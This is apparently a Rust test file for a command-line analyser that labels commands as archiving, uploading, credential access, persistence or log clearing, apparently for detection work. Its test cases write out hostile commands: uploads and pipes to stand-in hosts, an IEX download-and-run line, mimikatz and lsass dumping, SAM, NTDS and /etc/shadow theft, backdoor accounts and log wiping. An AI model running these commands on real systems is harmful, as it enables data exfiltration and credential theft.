//! Command lines and what is read out of them.

use proptest::prelude::*;

use super::*;

/// What was asked for, a line each: verb, sources, `>` targets, `@` address,
/// `=` name, `on` host.
fn said(asked: &[Asked]) -> Vec<String> {
    let line = |asked: &Asked| {
        let mut line = format!("{:?}", asked.verb);
        asked.sources.iter().for_each(|source| line += &format!(" {source}"));
        asked.targets.iter().for_each(|target| line += &format!(" > {target}"));
        asked.url.iter().for_each(|url| line += &format!(" @ {url}"));
        asked.name.iter().for_each(|name| line += &format!(" = {name}"));
        asked.on.iter().for_each(|host| line += &format!(" on {host}"));
        line
    };
    asked.iter().map(line).collect()
}

fn check(cases: &[(&str, &[&str])]) {
    for (command, expected) in cases {
        assert_eq!(said(&read(command)), *expected, "{command}");
    }
}

fn check_unix(cases: &[(&str, &[&str])]) {
    for (command, expected) in cases {
        assert_eq!(said(&read_unix(command)), *expected, "{command}");
    }
}

#[test]
fn archivers() {
    check(&[
        (
            r#""C:\Program Files\7-Zip\7z.exe" a -pX -mhe C:\t\o.7z "C:\My Plans\*.docx" D:\b"#,
            &[r"Archive C:\My Plans\*.docx D:\b > C:\t\o.7z"],
        ),
        (r"rar.exe a -hpX -v5m o.rar C:\Plans\", &[r"Archive C:\Plans\ > o.rar"]),
        (r"svc.exe a -hpX o.dat C:\Plans", &[r"Archive C:\Plans > o.dat"]),
        (r"svc.exe a o.zip C:\Plans", &[r"Archive C:\Plans > o.zip"]),
        (
            r"powershell -c Compress-Archive -Path C:\a,'C:\b c' -DestinationPath C:\o.zip -Force",
            &[r"Archive C:\a C:\b c > C:\o.zip"],
        ),
        (r"Compress-Archive C:\a o.zip", &[r"Archive C:\a > o.zip"]),
        (
            r#"powershell "[IO.Compression.ZipFile]::CreateFromDirectory('C:\a', 'C:\o.zip')""#,
            &[r"Archive C:\a > C:\o.zip"],
        ),
        (r"makecab C:\a.txt C:\a.cab", &[r"Archive C:\a.txt > C:\a.cab"]),
        (r"tar -czf C:\o.tgz -C C:\Plans .", &[r"Archive C:\Plans > C:\o.tgz"]),
    ]);
    check_unix(&[
        ("tar czf /tmp/o.tgz /srv/plans", &["Archive /srv/plans > /tmp/o.tgz"]),
        ("zip -r -P x /tmp/o.zip /srv/a /srv/b", &["Archive /srv/a /srv/b > /tmp/o.zip"]),
        ("gzip -9 /tmp/a", &["Archive /tmp/a > /tmp/a.gz"]),
        ("tar xzf a.tgz", &[]),
        ("openssl enc -aes-256-cbc -in /srv/a -out /tmp/b -k x", &["Archive /srv/a > /tmp/b"]),
    ]);
}

#[test]
fn copiers() {
    check(&[
        (r#"cmd.exe /c copy /y "C:\a b" \\FS01\C$\t"#, &[r"Copy C:\a b > \\FS01\C$\t"]),
        (r"rd /s/q C:\t", &[r"Delete C:\t"]),
        (r"xcopy C:\a D:\b /e /h", &[r"Copy C:\a > D:\b"]),
        (r"robocopy \\FS01\Plans C:\t *.docx /mov", &[r"Move \\FS01\Plans\*.docx > C:\t"]),
        (r"Copy-Item -Recurse C:\a -Destination D:\b", &[r"Copy C:\a > D:\b"]),
        (
            r"copy C:\a \\tsclient\C\t",
            &[r"Upload C:\a @ \\tsclient\C\t", r"Copy C:\a > \\tsclient\C\t"],
        ),
        (r"cmd /c type C:\a > C:\b", &[r"Read C:\a", r"Write > C:\b"]),
        (r"certutil -encode C:\a C:\b", &[r"Copy C:\a > C:\b"]),
    ]);
    check_unix(&[
        ("cp -r '/srv/my plans' /tmp", &["Copy /srv/my plans > /tmp"]),
        ("scp -P 22 /srv/a bob@192.0.2.7:/tmp/", &["Upload /srv/a @ bob@192.0.2.7:/tmp/"]),
        ("scp bob@h:/etc/a /tmp", &["Download > /tmp @ bob@h:/etc/a"]),
        ("rsync -avz /srv/ h::mod/x", &["Upload /srv/ @ h::mod/x"]),
        (
            "sudo -u root cp /etc/shadow /tmp/x",
            &["Credentials(Local) > /tmp/x", "Copy /etc/shadow > /tmp/x"],
        ),
    ]);
}

#[test]
fn uploaders() {
    check(&[
        (r"curl.exe -T C:\o.7z https://x.example/u", &[r"Upload C:\o.7z @ https://x.example/u"]),
        (
            r"curl -F file=@C:\o.7z -F a=b https://x.example/u",
            &[r"Upload C:\o.7z @ https://x.example/u"],
        ),
        (r"curl https://x.example/a -o C:\a.exe", &[r"Download > C:\a.exe @ https://x.example/a"]),
        (
            r"Invoke-RestMethod -Uri https://x.example/u -Method Put -InFile C:\o.7z",
            &[r"Upload C:\o.7z @ https://x.example/u"],
        ),
        (
            r"(New-Object Net.WebClient).UploadFile('https://x.example/u', 'POST', 'C:\o.7z')",
            &[r"Upload C:\o.7z @ https://x.example/u"],
        ),
        (r"rclone.exe copy C:\Plans mega:x --transfers 8", &[r"Upload C:\Plans @ mega:x"]),
        (
            r"bitsadmin /transfer j /upload /priority normal https://x.example/u C:\o.7z",
            &[r"Upload C:\o.7z @ https://x.example/u"],
        ),
        (
            r"Start-BitsTransfer -Source C:\o -Destination https://x.example/u -TransferType Upload",
            &[r"Upload C:\o @ https://x.example/u"],
        ),
        (r"aws s3 cp C:\o s3://b/k --quiet", &[r"Upload C:\o @ s3://b/k"]),
        (
            r#"winscp.com /command "open sftp://u:p@h/" "put C:\o /x" exit"#,
            &[r"Upload C:\o @ sftp://u:p@h/"],
        ),
        (
            r"certutil -urlcache -split -f http://x.example/a C:\a",
            &[r"Download > C:\a @ http://x.example/a"],
        ),
        (
            r"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
            &["Download @ http://x.example/a.ps1"],
        ),
    ]);
    check_unix(&[
        ("nc 192.0.2.7 443 < /tmp/o", &["Upload /tmp/o @ tcp://192.0.2.7:443"]),
        ("cat /srv/a | nc 192.0.2.7 443", &["Read /srv/a", "Upload /srv/a @ tcp://192.0.2.7:443"]),
        (
            "tar cz /srv/a | curl -T - https://x.example/u",
            &["Archive /srv/a", "Upload /srv/a @ https://x.example/u"],
        ),
        ("wget --post-file=/tmp/o https://x.example/u", &["Upload /tmp/o @ https://x.example/u"]),
        (
            "curl --data-binary @/etc/passwd https://x.example/u",
            &["Upload /etc/passwd @ https://x.example/u"],
        ),
    ]);
}

#[test]
fn credentials() {
    check(&[
        (
            r#"mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#,
            &["Credentials(Memory)"],
        ),
        (
            r#"a.exe "lsadump::dcsync /domain:corp.example /user:krbtgt" exit"#,
            &["Credentials(Directory) = krbtgt"],
        ),
        (
            r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\t\l.dmp full",
            &[r"Credentials(Memory) > C:\t\l.dmp"],
        ),
        (r"procdump64 -accepteula -ma lsass.exe l.dmp", &["Credentials(Memory) > l.dmp"]),
        (r"reg save HKLM\SAM C:\t\s", &[r"Credentials(Local) > C:\t\s"]),
        (
            r#"ntdsutil "ac i ntds" "ifm" "create full C:\t" q q"#,
            &[r"Credentials(Directory) > C:\t"],
        ),
        (
            r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit C:\t",
            &[
                r"Credentials(Directory) > C:\t",
                r"Copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit > C:\t",
            ],
        ),
        (r"csvde -f C:\t\ad.csv", &[r"ListDirectory > C:\t\ad.csv"]),
        ("net group \"Domain Admins\" /domain", &["ListDirectory"]),
    ]);
}

#[test]
fn what_stays() {
    check(&[
        (
            r#"schtasks /create /tn Up /tr "C:\a.exe -x" /sc daily /s WS02"#,
            &[r"Persist C:\a.exe -x = task Up on WS02"],
        ),
        (r"sc \\WS02 create Up binPath= C:\a.exe", &[r"Persist C:\a.exe = service Up on WS02"]),
        (
            r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Up /d C:\a.exe /f",
            &[r"Persist C:\a.exe = run key Up"],
        ),
        ("net user eve P@ss /add /domain", &["AddAccount = eve"]),
        ("net localgroup Administratoren eve /add", &["AddMember > Administratoren = eve"]),
        ("wevtutil cl Security", &["ClearLog = Security"]),
        ("auditpol /set /category:* /success:disable", &["StopLog = *"]),
        (r"net use Z: \\FS01\Plans /user:corp\adm x", &[r"Connect = corp\adm on FS01"]),
        (
            r#"wmic /node:WS02 process call create "cmd /c copy C:\a C:\b""#,
            &["Connect on WS02", r"Copy C:\a > C:\b on WS02"],
        ),
        (r"psexec.exe \\WS02 -s cmd /c type C:\a", &["Connect on WS02", r"Read C:\a on WS02"]),
        (r"del /f C:\t\o.7z", &[r"Delete C:\t\o.7z"]),
    ]);
}

#[test]
fn encoded_commands() {
    // Get-Content C:\a
    let code = "RwBlAHQALQBDAG8AbgB0AGUAbgB0ACAAQwA6AFwAYQA=";
    for command in [
        format!("powershell.exe -noP -sta -w 1 -enc {code}"),
        format!("powershell -EncodedCommand {code}"),
        format!(
            "%COMSPEC% /C start /b C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell -noP -sta -w 1 -enc  {code}"
        ),
    ] {
        assert_eq!(said(&read(&command)), [r"Read C:\a"], "{command}");
    }
    assert!(read("powershell -enc %%%").is_empty());
}

#[test]
fn scripts() {
    check(&[
        (
            "$a = Get-Content \"C:\\Plans\\a.txt\"\nif ($a) { Remove-Item C:\\t -Recurse }",
            &[r"Read C:\Plans\a.txt", r"Delete C:\t"],
        ),
        (
            r"Get-ChildItem C:\Plans -Recurse | ForEach-Object { Copy-Item $_.FullName D:\t }",
            &[r"List C:\Plans", r"Copy $_.FullName > D:\t"],
        ),
        (r"[System.IO.File]::ReadAllBytes('C:\a')", &[r"Read C:\a"]),
        ("git status", &[]),
        ("", &[]),
    ]);
}

#[test]
fn commands_in_commands_end() {
    let command = "cmd /c ".repeat(2000);
    assert!(read(&command).is_empty());
    let command = format!("{}\"", "powershell -c \"".repeat(500));
    assert!(read(&command).len() <= OBJECTS_PER_RECORD_MAX);
}

proptest! {
    #[test]
    fn nothing_panics(text in "\\PC{0,200}", words in prop::collection::vec(word(), 0..20)) {
        let _ = read(&text);
        let _ = read_unix(&text);
        let joined = words.join(" ");
        let _ = read(&joined);
        let _ = read_unix(&joined);
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let _ = read_arguments(&words);
    }
}

/// Words that readers look at.
const WORDS: &[&str] = &[
    "cmd",
    "/c",
    "powershell",
    "-enc",
    "-c",
    "7z",
    "a",
    "tar",
    "-czf",
    "-C",
    "curl",
    "-T",
    "-F",
    "file=@x",
    "copy",
    "robocopy",
    "/y",
    "esentutl",
    "rclone",
    "x:",
    "net",
    "use",
    "\\\\h\\s",
    "reg",
    "save",
    "hklm\\sam",
    "ntdsutil",
    "ifm",
    "create full",
    "wmic",
    "/node:x",
    "process",
    "call",
    "create",
    "schtasks",
    "/create",
    "/tn",
    "sc",
    "binpath=",
    "|",
    "&",
    ">",
    "<",
    "(",
    "{",
    "\"",
    "'",
    "-",
    "/",
    "--",
    "=",
    ":",
    "psexec",
    "ssh",
    "sudo",
    "-u",
    "at",
    "1:",
    "start",
    "Copy-Item",
    "-Path",
    "-Destination",
    ".UploadFile(",
    "]::ReadAllText(",
    "é",
    "\u{130}x",
    "lsadump::dcsync",
    "/user:",
    "invoke-command",
    "-computername",
    "forfiles",
    "runas",
];

/// Words that readers look at, and others.
fn word() -> impl Strategy<Value = String> {
    let known = prop::sample::select(WORDS);
    prop_oneof![known.prop_map(str::to_owned), "\\PC{0,6}"]
}
